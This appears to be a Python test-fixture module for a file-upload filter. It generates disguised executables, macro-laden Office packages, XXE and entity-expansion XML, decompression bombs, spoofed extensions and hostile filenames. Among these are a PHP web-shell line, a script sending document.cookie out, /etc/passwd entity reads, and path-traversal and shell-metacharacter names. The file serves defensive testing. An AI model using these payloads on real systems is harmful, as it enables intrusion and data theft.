"""S06: files nobody should be sent, under every name they may come by. MARK stands where a payload
would: it must be nowhere in what is kept."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.lib import samples

MARK = b"MA-DOC-" + b"7f3a91"
Named = tuple[str, bytes]

# What calls itself something else: the first bytes by which programs know it.
_STRANGERS = {
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'>" + MARK + b"</svg>",
    "html": b"<!DOCTYPE html><script>" + MARK + b"</script>",
    "mht": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + MARK,
    "hta": b"<hta:application><script>" + MARK + b"</script>",
    "lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + MARK,
    "exe": b"MZ\x90\0" + MARK + b"\0" * 400,
    "elf": b"\x7fELF\x02\x01\x01" + MARK + b"\0" * 400,
    "php": b"<?php system($_GET['c']); // " + MARK,
    "js": b"fetch('//x/'+document.cookie) // " + MARK,
    "bat": b"@echo off\r\nrem " + MARK,
    "url": b"[InternetShortcut]\r\nURL=file://x/" + MARK,
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK + b"\0" * 600,
    "rtf": b"{\\rtf1\\object " + MARK + b"}",
    "7z": b"7z\xbc\xaf'\x1c\0\x04" + MARK,
    "rar": b"Rar!\x1a\x07\x01\0" + MARK,
    "gz": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + MARK,
    "swf": b"CWS\x0a" + MARK + b"\0" * 50,
    "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + MARK,
    "wasm": b"\0asm\x01\0\0\0" + MARK,
    "ps": b"%!PS-Adobe-3.0\n(" + MARK + b") run\n",
    "gif": b"GIF89a\x01\0\x01\0\x80\0\0" + MARK,
    "tiff": b"II*\0\x08\0\0\0" + MARK,
    "webp": b"RIFF\x24\0\0\0WEBPVP8 " + MARK,
    "xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>" + MARK,
    "text": MARK * 20,
    "nothing": b"",
}
_CALLED = ("pdf", "jpg", "png", "heic", "docx", "xlsx")


def refused() -> dict[str, Named]:
    """None of these may be taken."""
    found = {
        f"{kind} called {ending}": (f"giấy.{ending}", data)
        for kind, data in _STRANGERS.items()
        for ending in _CALLED
    }
    return found | dict(_packages()) | dict(_pictures()) | dict(_documents()) | dict(_names())


def harmless() -> dict[str, Named]:
    """These may be taken when what is kept is without MARK."""
    pdf, jpg, png, heic = samples.pdf(), samples.jpeg(), samples.png(), samples.heic()
    page = b"<html><script>" + MARK + b"</script></html>"
    package = _package(("x.js", MARK))
    return {
        "pdf with a page behind": ("a.pdf", pdf + page),
        "pdf with a page and an end behind": ("a.pdf", pdf + page + b"\n%%EOF\n"),
        "pdf with a package behind": ("a.pdf", pdf + package),
        "photo with a script behind": ("a.jpg", jpg + b"*/" + MARK),
        "photo with a script in its comment": ("a.jpg", samples.jpeg(comment=MARK)),
        "photo with a package behind": ("a.jpg", jpg + package),
        "picture with a script behind": ("a.png", png + b"<?php " + MARK),
        "picture with a script in its text": ("a.png", _png_with_text()),
        "heic with a page behind": ("a.heic", heic + page),
        **{
            f"pdf with {kind}": ("a.pdf", samples.hostile_pdf(kind)) for kind in samples.HOSTILE_PDF
        },
        **{
            f"signed pdf with {kind}": ("a.pdf", samples.hostile_pdf(kind, signed=True))
            for kind in samples.HOSTILE_PDF
        },
    }


def _package(
    *parts: Named, main: str = "word/document.xml", packing: int = zipfile.ZIP_DEFLATED
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as package:
        for name, data in (("[Content_Types].xml", b"<x/>"), (main, b"<x/>"), *parts):
            package.writestr(name, data)
    return out.getvalue()


_LINK = (
    b'<Relationships><Relationship Type="http://x/%s" Target="http://xau.example/%s"'
    b' TargetMode="External"/></Relationships>'
)
_LAUGHS = (
    b"<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><Relationships>&b;</Relationships>"
)
_READS = b"<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><Relationships>&a;</Relationships>"


def _packages() -> Iterator[tuple[str, Named]]:
    rels = "word/_rels/document.xml.rels"
    inside = {
        "macro": [("word/vbaProject.bin", MARK)],
        "macro data": [("word/vbaData.xml", MARK)],
        "activex": [("word/activeX/activeX1.xml", MARK)],
        "embedded object": [("word/embeddings/oleObject1.bin", MARK)],
        "program": [("word/media/x.exe", MARK)],
        "script": [("word/x.vbs", MARK)],
        "swelling part": [("word/media/a.bmp", b"\0" * 210 * 1024 * 1024)],
        "too many parts": [(f"word/{n}.xml", b"") for n in range(2100)],
        "template from elsewhere": [(rels, _LINK % (b"attachedTemplate", MARK))],
        "object from elsewhere": [(rels, _LINK % (b"oleObject", MARK))],
        "frame from elsewhere": [(rels, _LINK % (b"frame", MARK))],
        "entities that swell": [(rels, _LAUGHS)],
        "entity that reads": [(rels, _READS)],
        "links that are no XML": [(rels, MARK)],
        "endless links": [(rels, b"<a>" + b" " * 1_100_000 + b"</a>")],
    }
    for name, parts in inside.items():
        yield f"docx with {name}", ("a.docx", _package(*parts))
    whole = _package()
    yield "docx cut short", ("a.docx", whole[:-30])
    yield "docx without its main part", ("a.docx", _package(main="word/other.xml"))
    yield "docx called xlsx inside", ("a.xlsx", whole)
    locked = bytearray(whole)
    locked[6] |= 1
    locked[whole.rindex(b"PK\x01\x02") + 8] |= 1
    yield "docx with a password", ("a.docx", bytes(locked))
    lying = bytearray(_package(("word/a.xml", b"x" * 5000)))
    struct.pack_into("<I", lying, bytes(lying).rindex(b"PK\x01\x02") + 24, 2**31)
    yield "docx that lies about its size", ("a.docx", bytes(lying))
    for kind in (zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2):
        packed = _package(("word/a.xml", b"x" * 5000), packing=kind)
        yield f"docx packed as no office program packs ({kind})", ("a.docx", packed)
    yield "package of packages", ("a.zip", _package(("a.zip", whole), main="a.txt"))
    yield (
        "xlsx with macro",
        ("a.xlsx", _package(("xl/vbaProject.bin", MARK), main="xl/workbook.xml")),
    )


def _pictures() -> Iterator[tuple[str, Named]]:
    yield "picture that swells", ("a.png", samples.png_bomb())
    wide = bytearray(samples.jpeg())
    start = bytes(wide).index(b"\xff\xc0")
    struct.pack_into(">HH", wide, start + 5, 65_000, 65_000)
    yield "photo of 65,000 × 65,000", ("a.jpg", bytes(wide))
    for name, data in (("png", samples.png()), ("jpg", samples.jpeg()), ("heic", samples.heic())):
        yield f"{name} of its first bytes", (f"a.{name}", data[:24])
    yield "png with a wrong sum", ("a.png", samples.png().replace(b"IHDR\0\0\0", b"IHDR\0\0\1"))


def _documents() -> Iterator[tuple[str, Named]]:
    yield "pdf with a password", ("a.pdf", samples.locked_pdf("x"))
    yield "pdf that must not be copied", ("a.pdf", samples.locked_pdf())
    yield "pdf cut short", ("a.pdf", samples.pdf()[:120])
    yield "pdf of its first line", ("a.pdf", b"%PDF-1.7\n" + MARK)
    yield "pdf of head and end", ("a.pdf", b"%PDF-1.7\n" + MARK + b"\n%%EOF\n")


def _names() -> Iterator[tuple[str, Named]]:
    good = samples.pdf()
    for name in (
        "a.pdf.exe",
        "a.exe.pdf",
        "a.php.pdf",
        "a.pdf.js",
        "a\u202efdp.exe",
        "a.exe",
        "a.hta",
    ):
        yield f"named {name!r}", (name, good)


def odd_names() -> list[str]:
    """Of good files: taken, and kept under a name that harms nobody."""
    return [
        "../../etc/passwd.pdf", "..\\..\\windows\\a.pdf", "/etc/a.pdf", "C:\\a.pdf", "a\x00b.pdf",
        "a.pdf:ads", "CON.pdf", "nul.pdf", "LPT1.pdf", ".htaccess.pdf", "-rf.pdf", "a\nb.pdf",
        "a\u202eb.pdf", "a\u200bb.pdf", "x" * 300 + ".pdf", "đơn xin cấp lại.pdf",
        "\u0064\u031b\u006f\u0301n.pdf", "<img src=x onerror=x>.pdf", "a;b|c&d.pdf",
        "%2e%2e%2fa.pdf",
        "a'b\"c.pdf", "   .pdf", "=1+1.pdf", "a\ud800b.pdf", "\U0001f600.pdf",
    ]  # fmt: skip


def _png_with_text() -> bytes:
    from PIL import Image, PngImagePlugin

    said, out = PngImagePlugin.PngInfo(), io.BytesIO()
    said.add_text("Comment", MARK.decode())
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=said)
    return out.getvalue()
